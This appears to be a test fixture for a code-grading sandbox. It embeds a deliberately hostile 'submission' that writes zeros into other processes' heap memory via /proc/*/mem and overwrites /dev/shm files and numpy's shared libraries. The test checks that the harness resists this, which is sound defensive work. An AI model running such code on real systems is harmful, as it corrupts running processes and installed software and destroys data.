"""Changes what all workers are forked from: shared pages, /dev/shm, the files of loaded libraries, its memory."""

EXERCISE = "scaling_ex01"
DANGEROUS = True
SUBMITTED = r"""
import ctypes, glob, os
import numpy as np
count = 0
for file in glob.glob("/proc/*/mem"):
    try:
        pid = file.split("/")[2]
        if pid in ("self", "thread-self", str(os.getpid())):
            continue
        with open(file, "r+b", buffering=0) as memory, open(f"/proc/{pid}/maps") as maps:
            for line in maps:
                if "rw-p" in line and "heap" in line:
                    memory.seek(int(line.split("-")[0], 16))
                    memory.write(b"\0" * 4096)
                    count += 1
    except OSError:
        pass
for file in glob.glob("/dev/shm/*") + glob.glob(os.path.dirname(np.__file__) + "/*.so"):
    try:
        open(file, "r+b").write(b"\0" * 4096)
        count += 1
    except OSError:
        pass

def attack(name, *args, **kwargs):
    raise ValueError(f"poisoned {[count]}" if count else "nothing")
"""
MUST_NOT_SAY = ("poisoned [",)
